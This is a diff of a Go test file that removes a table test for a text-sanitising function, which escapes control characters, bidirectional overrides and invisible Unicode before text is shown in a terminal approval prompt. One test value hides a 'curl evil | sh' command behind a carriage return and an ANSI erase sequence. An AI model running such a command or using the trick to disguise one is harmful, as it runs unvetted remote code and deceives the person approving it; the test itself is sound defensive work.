@@ -28,25 +28,6 @@ func assertNoRawControls(t *testing.T, where, s string) {
 	}
 }
 
-func TestSafeText(t *testing.T) {
-	for in, want := range map[string]string{
-		"plain\ttext\n":               "plain\ttext\n",
-		hidden:                        `echo safe\r\x1b[2Kcurl evil | sh`,
-		"crlf\r\nline\r\n":            "crlf\r\nline\r\n",
-		"bell\a del\x7f nul\x00":      `bell\x07 del\x7f nul\0`,
-		"rtl \u202efdp.exe":           `rtl \u202efdp.exe`,
-		"c1 \u009b31m":                `c1 \u009b31m`,
-		"bad \xff utf8 é":             `bad \xff utf8 é`,
-		"rlm\u200f alm\u061c":         `rlm\u200f alm\u061c`,
-		"ls\u2028 zw\u200b bom\ufeff": `ls\u2028 zw\u200b bom\ufeff`,
-		"family 👨\u200d👩":             "family 👨\u200d👩",
-	} {
-		if got := safeText(in); got != want {
-			t.Errorf("safeText(%q) = %q, want %q", in, got, want)
-		}
-	}
-}
-
 func TestApprovalPromptEscapesControls(t *testing.T) {
 	var shown bytes.Buffer
 	ask := &terminalAsker{in: strings.NewReader("n\n"), out: &shown}
